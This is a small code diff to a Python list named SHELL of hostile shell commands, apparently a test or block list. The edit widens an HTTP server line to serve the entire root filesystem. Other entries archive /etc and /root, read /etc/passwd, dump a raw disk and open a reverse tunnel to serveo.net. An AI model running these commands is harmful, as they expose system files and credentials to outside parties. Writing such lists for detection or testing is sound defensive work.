@@ -37,7 +37,7 @@ SHELL = [
     "tar czf x.tgz /etc",
     "zip -r x.zip /root",
     "cp -r /home .",
-    "python3 -m http.server 80",
+    "python3 -m http.server --directory / 80",
     "ssh -R 80:localhost:80 serveo.net",
     "ln -s /etc/passwd x; cat x",
     "dd if=/dev/sda of=x",
